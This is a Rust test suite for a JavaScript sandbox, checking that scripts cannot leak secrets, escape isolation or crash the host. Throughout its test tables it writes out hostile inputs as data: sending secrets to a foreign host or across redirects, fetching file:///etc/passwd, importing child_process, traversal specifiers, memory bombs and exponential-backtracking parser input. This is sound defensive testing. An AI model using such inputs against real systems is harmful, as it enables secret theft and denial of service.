fn scripts_learn_nothing_of_a_secrets_value() {
    const VALUE: &str = "s3cr3t-v4lue-42";
    let server = TestServer::start();
    let elsewhere = TestServer::start();
    let (base, other) = (server.base(), elsewhere.base());
    let policy = || server.policy().allow_host(elsewhere.host()).secret("T", jsbox::Secret::value(VALUE).host(server.host()));
    let body = |code: &str| format!("async function execute() {{ const base = {base:?}, other = {other:?}; {code} }}");
    let cases = vec![
        case("string tricks on the placeholder", "ok", "{{secrets.T}}", &body("log(secrets.T, secrets.T.split('').map((c) => c.charCodeAt(0)).join(), secrets.T.length); return [secrets.T, JSON.stringify(secrets), Object.getOwnPropertyDescriptor(secrets, 'T')]")),
        case("an echo server's body and headers", "ok", "{{secrets.T}}", &body("const r = await fetch(base + 'echo', { method: 'POST', headers: { Authorization: secrets.T }, body: secrets.T }); return [await r.text(), [...r.headers]]")),
        case("the placeholder built from pieces", "ok", "{{secrets.T}}", &body("const p = '{{sec' + 'rets.T}}'; return await http.sendPostRequest({ 'X-K': p }, base + 'echo', p)")),
        case("a lowercase-encoded placeholder in the path", "ok", "%7b%7bsecrets.T%7d%7d", &body("return (await (await fetch(base + 'echo/%7b%7bsecrets.T%7d%7d')).text()).slice(0, 400)")),
        case("a server redirecting with the value in the Location", "ok", "{{secrets.T}}", &body("const r = await fetch(base + 'redirect?to=' + encodeURIComponent(base + 'echo?x=' + secrets.T)); return [r.url, await r.text()]")),
        case("sent to a host it does not belong to", "network-denied", "secret T", &body("await fetch(other + 'echo?t=' + secrets.T)")),
        case("smuggled across a redirect in a header", "ok", "[true,", &body("const r = await fetch(base + 'redirect?to=' + encodeURIComponent(other + 'echo'), { headers: { Authorization: secrets.T, 'X-K': secrets.T } }); const seen = await r.json(); return [seen.authorization === '' && seen.headers['x-k'] === undefined, seen]")),
        case("smuggled across a 307 in the body", "network-denied", "redirect", &body("await fetch(base + 'redirect?code=307&to=' + encodeURIComponent(other + 'echo'), { method: 'POST', body: secrets.T })")),
        case("an error with the echoed value in it", "exception", "{{secrets.T}}", &body("const r = await http.sendPostRequest({ Authorization: secrets.T }, base + 'echo', {}); throw new Error('got ' + r.authorization)")),
        case("a replaced secrets global", "ok", "mine", &body("globalThis.secrets = { T: 'mine' }; return (await http.sendPostRequest({}, base + 'echo', secrets.T)).body")),
    ];
    check(cases.into_iter().map(|c| c.policy(policy()).never(VALUE)).collect());
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn scripts_run_again_from_cached_bytecode_start_over() {
    let many_functions: String = (0..20_000).map(|i| format!("const f{i} = () => {i};\n")).collect();
    check(vec![
        case("a global set while loading is gone the next time", "ok", r#""undefined""#,
             "const before = typeof globalThis.stash; globalThis.stash = new Map(); function execute() { return before }").again(),
        case("an intrinsic replaced while loading is the original the next time", "ok", "true",
             "const pristine = !Object.hasOwn(JSON, 'mine'); JSON.mine = 1; JSON.parse = () => 'tampered'; function execute() { return pristine }").again(),
        case("a regular expression literal's state starts over", "ok", "1",
             "const re = /a/g; function execute() { re.test('aa'); return re.lastIndex }").again(),
        case("a tagged template's strings object is the language's", "ok", "1",
             "function tag(s) { return s } function execute() { const t = tag`x`; return Object.isFrozen(t) ? 1 : 0 }").again(),
        case("a function's properties start over", "ok", "1",
             "function execute() { execute.calls = (execute.calls || 0) + 1; return execute.calls }").again(),
        case("execute defined by eval at load", "ok", "5",
             "eval('function execute() { return 5 }')").again(),
        case("a source with a NUL byte is refused each time", "syntax", "NUL byte",
             "function execute() { return 1 }\0").again(),
        case("a parser-exhausting nest is refused each time", "syntax", "SyntaxError",
             &format!("function execute() {{ return {} }}", "[".repeat(100_000))).again().within(Duration::from_secs(10)),
        case("a memory bomb while loading ends the same from the cache", "memory-limit", "memory limit",
             "const a = []; for (;;) a.push(new Array(1e5).fill(1)); function execute() {}").policy(memory(SMALL)).again(),
        case("a loop while loading ends the same from the cache", "timeout", "timed out",
             "for (;;) {} function execute() {}").policy(timeout_ms(300)).again(),
        case("20,000 functions: bytecode larger than the source", "ok", "19999",
             &format!("{many_functions}function execute() {{ return f19999() }}")).again(),
        case("an uncaught throw while loading throws the same again", "exception", "RangeError: at load",
             "throw new RangeError('at load'); function execute() {}").again(),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn probing_the_outside_world_finds_nothing() {
    check(vec![
        case("require", "exception", "ReferenceError: require is not defined", "return require('fs')"),
        case("process", "exception", "ReferenceError: process is not defined", "return process.env"),
        case("dynamic import", "exception", "Cannot find module 'os'", "async function execute() { return await import('os') }"),
        case("a file URL", "network-denied", "scheme not allowed: file:", "async function execute() { return await fetch('file:///etc/passwd') }"),
        case("WebAssembly", "ok", "\"undefined\"", "return typeof WebAssembly"),
        case("the globals are exactly the documented ones", "ok", "true", r#"
            const expected = ["AbortController","AbortSignal","AggregateError","Array","ArrayBuffer",
              "AsyncDisposableStack","BigInt","BigInt64Array","BigUint64Array","Blob","Boolean","Crypto","CryptoKey",
              "CustomEvent","DOMException","DataView","Date","DisposableStack","Error","EvalError","Event",
              "EventTarget","File","Float16Array","Float32Array","Float64Array","FormData","Function","Headers",
              "Infinity","Int16Array","Int32Array","Int8Array","InternalError","Intl","Iterator","JSON","Map","Math","NaN",
              "Number","Object","Performance","Promise","Proxy","RangeError","ReadableStream",
              "ReadableStreamDefaultController","ReadableStreamDefaultReader","ReferenceError","Reflect","RegExp",
              "Request","Response","Set","SharedArrayBuffer","String","SubtleCrypto","SuppressedError","Symbol",
              "SyntaxError","TextDecoder","TextEncoder","TypeError","URIError","URL","URLSearchParams","Uint16Array",
              "Uint32Array","Uint8Array","Uint8ClampedArray","WeakMap","WeakSet","atob","btoa","clearInterval",
              "clearTimeout","console","crypto","decodeURI","decodeURIComponent","encodeURI","encodeURIComponent",
              "escape","eval","execute","fetch","global","globalThis","http","isFinite","isNaN","leaked","log",
              "parseFloat","parseInt","performance","queueMicrotask","self","setInterval","setTimeout",
              "structuredClone","undefined","unescape"];
            const seen = Object.getOwnPropertyNames(globalThis).sort();
            if (JSON.stringify !== undefined && seen.join() !== expected.join()) throw new Error("globals: " + seen.join());
            return true"#),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn module_specifier_tricks_reach_nothing_but_the_platforms_modules() {
    let modules = modules_policy;
    let refused = |name: &'static str, specifier: &str| {
        case(name, "ok", "refused", &format!(
            "export async function execute() {{ try {{ await import({specifier}); return 'imported' }} catch (e) {{ return e instanceof TypeError ? 'refused' : String(e) }} }}"
        )).policy(modules())
    };
    let long = "x".repeat(1 << 20);
    check(vec![
        refused("a parent path", "'../probe/lib'"),
        refused("a dot path", "'./probe/lib'"),
        refused("percent-encoded dots", "'%2e%2e/probe/lib'"),
        refused("a percent-encoded slash", "'probe%2flib'"),
        refused("a file URL", "'file:///etc/passwd'"),
        refused("an absolute path", "'/etc/passwd'"),
        refused("a node: builtin", "'node:child_process'"),
        refused("a bare builtin", "'fs'"),
        refused("an https URL", "'https://127.0.0.1/x.js'"),
        refused("a data URL", "'data:text/javascript,export default 1'"),
        refused("a NUL inside a specifier", "'probe/lib\\0/../../etc/passwd'"),
        refused("another case", "'PROBE/LIB'"),
        refused("surrounding space", "' probe/lib'"),
        refused("a prototype name", "'__proto__'"),
        refused("an Object.prototype method", "'toString'"),
        refused("the script itself", "'script.js'"),
        refused("a specifier object whose toString lies", "{ toString() { return 'fs' } }"),
        case("a 1 MiB specifier is named, clipped", "exception", "Cannot find module 'xxxx",
            &format!("import x from '{long}';\nexport default () => x; function execute() {{}}")).policy(modules()).never(&"x".repeat(10_000)),
        case("a static import of an unmapped module", "exception", "Cannot find module 'fs'",
            "import fs from 'fs';\nexport function execute() { return fs }").policy(modules()),
        case("a registered module the policy does not allow", "exception", "Cannot find module 'probe/lib'",
            "import { chunk } from 'probe/lib';\nexport function execute() { return 1 }"),
        case("import.meta carries nothing from the host", "ok", "[]",
            "export function execute() { return Object.getOwnPropertyNames(import.meta) }").policy(modules()),
        case("a module tampering with shared intrinsics leaves nothing behind", "ok", "3",
            "import { chunk } from 'probe/lib';\nArray.prototype.push = () => { throw 1 };\nexport function execute() { return [1,2,3].length }").policy(modules()).again(),
        case("a module's state does not reach the next execution", "ok", "1",
            "import { bump } from 'probe/state';\nexport function execute() { return bump() }").policy(modules()).again(),
        case("a huge module under a small memory limit", "memory-limit", "",
            "import { data } from 'probe/huge';\nexport function execute() { return data.length }").policy(modules().memory(16 << 20)),
        case("top-level await that never settles", "exception", "never settle",
            "await new Promise(() => {});\nexport function execute() { return 1 }").policy(modules()),
        case("a busy loop at the top level of a module", "timeout", "",
            "while (true) {}\nexport function execute() { return 1 }").policy(modules().timeout(Duration::from_millis(300))),
        case("ten thousand dynamic imports", "ok", "10000",
            "export async function execute() { let n = 0; for (let i = 0; i < 10000; i++) { if ((await import('probe/lib')).name === 'lib') n++ } return n }").policy(modules()),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn odd_input_gets_a_clear_error() {
    let data: Vec<u32> = (0..1_000_000).collect();
    let eight_mb = format!("const data = {};\nfunction execute() {{ return data.length }}", json!(data));
    assert!(eight_mb.len() > 6 << 20);
    let comment = format!("// {}\nfunction execute() {{ return 'read past the comment' }}", "x".repeat(8 << 20));
    check(vec![
        case("a NUL byte in the script", "syntax", "NUL byte", "return 1\0"),
        case("an invalid escape", "syntax", "Invalid Unicode escape sequence at script.js:2:", "return '\\u{110000}'"),
        Hostile { name: "a script of 7 MB of data", script: eight_mb.clone(), ..case("", "memory-limit", "64.0 MiB", "") }.within(Duration::from_secs(10)),
        Hostile { name: "the same with memory to spare", script: eight_mb, ..case("", "ok", "1000000", "") }
            .policy(memory(256 << 20)).within(Duration::from_secs(10)),
        Hostile { name: "a script of 8 MB of comment", script: comment, ..case("", "ok", "read past the comment", "") }
            .within(Duration::from_secs(10)),
    ]);
}

#[test]
fn odd_args_arrive_intact_or_fail_clearly() {
    let echo = "function execute(a) { return [a.s.length, a.s.charCodeAt(0), a.s.charCodeAt(a.s.length - 1)] }";
    assert_eq!(ok(&Policy::default(), echo, json!({"s": "\0middle\0"})), json!([8, 0, 0]));
    assert_eq!(ok(&Policy::default(), echo, json!({"s": "\u{FFFF}\u{10FFFF}"})), json!([3, 0xFFFF, 0xDFFF]));
    // Args larger than the sandbox's memory cannot even be copied in.
    let huge = json!({"s": "y".repeat(32 << 20)});
    assert_eq!(err(&memory(SMALL), echo, huge).kind(), "memory-limit");
    assert_eq!(ok(&Policy::default(), CANARY, json!({"n": 1}))["n"], json!(2));
    for bad in ["{", "[1,]", "\"\\ud800", "nul\0", "1e999999", "{\"a\":\u{0}}"] {
        assert_eq!(jsbox::parse_args(bad).unwrap_err().kind(), "invalid-args", "{bad:?}");
    }
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn typescript_nesting_of_any_construct_is_a_syntax_error_naming_the_limit() {
    // The stripper runs in a sandbox of its own: whatever nests, its stack
    // runs out there, never the host's (these killed the process before).
    let deep = 60_000;
    let ts = |name: &'static str, source: String| {
        case(name, "syntax", "for TypeScript stripping", &format!("{source}\nfunction execute() {{ return 1 }}"))
            .typescript()
            .within(Duration::from_secs(20))
    };
    check(vec![
        ts("nested generics", format!("type A<T> = T;\nlet x: {}number{} = 1;", "A<".repeat(deep), ">".repeat(deep))),
        ts("chained arrows", format!("const f = {}1;", "a => ".repeat(deep))),
        ts("nested parentheses", format!("const x = {}1{};", "(".repeat(deep), ")".repeat(deep))),
        ts("nested arrays", format!("const x = {}{};", "[".repeat(deep), "]".repeat(deep))),
        ts("nested objects", format!("const x = {}1{};", "{a:".repeat(deep), "}".repeat(deep))),
        ts("unary operators", format!("const x = {}1;", "!".repeat(deep * 3))),
        ts("chained assignments", format!("let x; x = {}1;", "x = ".repeat(deep))),
        ts("conditional expressions", format!("const x = {}1;", "x ? 1 : ".repeat(deep))),
        ts("conditional types", format!("type C = {}never;", "0 extends 1 ? 0 : ".repeat(deep))),
        ts("nested type literals", format!("type O = {}number{};", "{ a: ".repeat(deep), " }".repeat(deep))),
        ts("nested function types", format!("type F = {}void;", "() => ".repeat(deep))),
        ts("keyof chains", format!("type K = {}string;", "keyof ".repeat(deep))),
        ts("nested templates", format!("const t = {}1{};", "`${".repeat(deep), "}`".repeat(deep))),
        // Not deep for SWC (it grows its stack on the heap here) but quadratic: its fuel runs out.
        ts("else-if chains", format!("if (0) {{}} {}", "else if (0) {} ".repeat(deep))),
        ts("nested blocks", format!("{}{}", "{".repeat(deep), "}".repeat(deep))),
        ts("nested calls", format!("const x = {}1{};", "f(".repeat(deep), ")".repeat(deep))),
        // 161 bytes on which SWC backtracks exponentially (found by `make fuzz`): its fuel stops it.
        ts("generic calls that backtrack", "string (t<(mpl<(ystring (t<(mpl<(yAp=me(t<(mpl<(yAp=t<(mext%t<(t<(mp=t<(mext%t<(t<(mpl<(yAp=me(t<(mpl<(yAp=t<(mext%t<(t<(mp=t<(mext%t<(t<(mpl<(yAp=rmext%t<(mext%".to_string()).within(Duration::from_secs(3)),
        // Deep but honest nesting strips (QuickJS then parses what it can).
        case("a thousand nested parentheses", "ok", "1", &format!("const x: number = {}1{};\nfunction execute(): number {{ return x }}", "(".repeat(1_000), ")".repeat(1_000))).typescript(),
        case("a thousand nested generics", "ok", "1", &format!("type A<T> = T;\nconst x: {}number{} = 1;\nfunction execute() {{ return x }}", "A<".repeat(1_000), ">".repeat(1_000))).typescript(),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn malformed_time_zones_are_range_errors_never_a_trap() {
    let zones = ["+1é1", "+0é:0", "+12é0", "-é", "+é", "+1", "+123", "+12:3é", "+𝟙𝟚", "+12\u{0}0", "+99", "-23:60"];
    let mut cases = Vec::new();
    for zone in zones {
        let zone = serde_json::to_string(zone).unwrap();
        cases.push(case("a malformed offset zone", "ok", "\"RangeError\"", &format!("try {{ new Intl.DateTimeFormat('en-US', {{ timeZone: {zone} }}); return 'accepted' }} catch (e) {{ return e.name }}")));
        cases.push(case("a malformed offset zone in toLocaleString", "ok", "\"RangeError\"", &format!("try {{ new Date(0).toLocaleString('en-US', {{ timeZone: {zone} }}); return 'accepted' }} catch (e) {{ return e.name }}")));
    }
    cases.push(case("uncaught", "exception", "RangeError", "return new Intl.DateTimeFormat('en-US', { timeZone: '+1é1' }).format(0)"));
    cases.push(case("well-formed offsets still work", "ok", "\"+01:30|-12:00|+05:00\"", "return ['+0130', '-12:00', '+05'].map((z) => new Intl.DateTimeFormat('en', { timeZone: z }).resolvedOptions().timeZone).join('|')"));
    check(cases);
}

/// `[[…[1]…]]`, 1,000 levels.
static RESULT_1000: std::sync::LazyLock<String> =
    std::sync::LazyLock::new(|| format!("{}1{}", "[".repeat(1_000), "]".repeat(1_000)));

#[test]
#[rustfmt::skip] // a table: one case per line
fn deep_results_and_helper_arguments_come_back_intact_or_with_a_clear_kind() {
    let probe = || Policy::default().allow_helper("probe.*");
    let nest = |levels: usize| format!("let v = 1; for (let i = 0; i < {levels}; i++) v = [v]; ");
    let depth = "let d = 0; let x = r; while (Array.isArray(x)) { x = x[0]; d++ } return [d, x];";
    check(vec![
        case("a result 1,000 levels deep", "ok", RESULT_1000.as_str(), &format!("{}return v", nest(1_000))),
        case("a result 2,000 levels deep", "ok", "[[[[", &format!("{}return v", nest(2_000))),
        case("a result past jsbox's JSON depth", "output-limit", "nested more than 2000 levels deep", &format!("{}return v", nest(2_001))),
        case("a result 100,000 levels deep", "exception", "RangeError", &format!("{}return v", nest(100_000))),
        case("helper arguments 1,000 levels deep", "ok", "[1000,1]", &format!("{}const r = probe.echo(v)[0]; {depth}", nest(1_000))).policy(probe()),
        case("async helper arguments 1,000 levels deep", "ok", "[1000,1]", &format!("async function execute() {{ {}const r = (await probe.echoAsync(v))[0]; {depth} }}", nest(1_000))).policy(probe()),
        case("helper arguments past jsbox's JSON depth", "helper", "nested more than 2000 levels deep", &format!("{}return probe.echo(v)", nest(2_500))).policy(probe()),
        case("async helper arguments past jsbox's JSON depth", "helper", "invalid-args", &format!("{}return probe.echoAsync(v)", nest(2_500))).policy(probe()),
    ]);
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn secrets_stay_out_of_userinfo_and_every_cap_counts_the_wire() {
    const VALUE: &str = "s3cr3t-v4lue-42";
    let long = "L".repeat(2_000);
    let server = TestServer::start();
    let base = server.base();
    let host = server.host();
    let policy = || {
        let mut policy = server.policy().secret("T", jsbox::Secret::value(VALUE).host(server.host())).secret("LONG", jsbox::Secret::value(long.clone()).host(server.host()));
        policy.network.max_request_bytes = 64 << 10;
        policy
    };
    let body = |code: &str| format!("async function execute() {{ const base = {base:?}, host = {host:?}; try {{ {code} }} catch (e) {{ return [e.kind, e.message] }} }}");
    let cases = vec![
        case("userinfo in http.sendPostRequest", "ok", "user:password", &body("return await http.sendPostRequest({}, 'http://u:' + secrets.T + '@' + host + '/echo', {})")),
        case("userinfo in http.sendGetRequest", "ok", "user:password", &body("return await http.sendGetRequest({}, 'http://' + secrets.T + '@' + host + '/echo')")),
        case("an encoded placeholder in userinfo", "ok", "user:password", &body("return await http.sendGetRequest({}, 'http://u:%7B%7Bsecrets.T%7D%7D@' + host + '/echo')")),
        case("userinfo in fetch", "ok", "credentials", &body("return await (await fetch('http://u:' + secrets.T + '@' + host + '/echo')).text()")),
        case("userinfo in a redirect's Location", "ok", "user:password", &body("return await (await fetch(base + 'redirect?to=' + encodeURIComponent('http://u:' + secrets.T + '@' + host + '/echo'))).text()")),
        case("a body of placeholders over the cap once put in", "ok", "[\"too-large\"", &body("return await http.sendPostRequest({}, base + 'echo', secrets.LONG.repeat(52))")),
        case("the same through fetch", "ok", "[\"too-large\"", &body("return await (await fetch(base + 'echo', { method: 'POST', body: secrets.LONG.repeat(52) })).text()")),
        case("headers of placeholders over the cap once put in", "ok", "[\"too-large\"", &body("const h = {}; for (let i = 0; i < 200; i++) h['x-' + i] = secrets.LONG; return await http.sendGetRequest(h, base + 'echo')")),
        case("a URL of placeholders over the cap once put in", "ok", "[\"too-large\"", &body("return await http.sendGetRequest({}, base + 'echo?q=' + secrets.LONG.repeat(200))")),
        case("a body under the cap once put in", "ok", "\"ok\"", &body("const r = await http.sendPostRequest({}, base + 'echo', secrets.LONG.repeat(30)); return r.body.split(secrets.LONG).length === 31 && r.body.length < 600 ? 'ok' : r.body.length")),
    ];
    check(cases.into_iter().map(|c| c.policy(policy()).never(VALUE).never(&"L".repeat(2_000)[..1_000])).collect());
}

#[test]
#[rustfmt::skip] // a table: one case per line
fn a_short_secret_cannot_blow_a_response_up_past_its_cap() {
    // Redacting "x" puts 13 bytes in place of each: 200,000 bytes become 2.6 MB.
    let server = TestServer::start();
    let base = server.base();
    let mut policy = server.policy().secret("X", jsbox::Secret::value("x").host(server.host()));
    policy.network.max_response_bytes = 1 << 20;
    let script = |n: usize| format!("async function execute() {{ try {{ return (await (await fetch({base:?} + 'bytes/{n}')).text()).length }} catch (e) {{ return [e.kind, e.message] }} }}");
    check(vec![
        case("a response of 200,000 x", "ok", "once secrets are redacted", &script(200_000)).policy(policy.clone()),
        case("a response of 1,000 x", "ok", "13000", &script(1_000)).policy(policy),
    ]);
}
